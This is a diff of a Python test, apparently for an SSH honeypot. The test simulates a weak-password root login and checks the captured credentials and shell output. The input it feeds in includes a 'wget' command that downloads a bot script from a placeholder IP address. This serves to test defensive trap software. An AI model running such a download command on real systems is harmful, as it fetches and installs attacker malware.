@@ -197,7 +197,7 @@ def test_openssh_reaches_the_password_prompt_and_a_weak_login_gets_the_shell(
         stdin=b"whoami\nwget http://203.0.113.9/bot.sh\nexit\n",
     )  # fmt: skip
     out = shell.stdout.decode(errors="replace")
-    assert "root@web01:~# " in out and "unable to resolve host address" in out
+    assert "root@web01:~# " in out and "failed: Connection refused." in out
     creds = yield stored(app, node, "trap.credential", "ssh", 3)
     assert [(c["username"], c["password"], c["accepted"]) for c in creds] == [
         ("root", "hunter2", False),
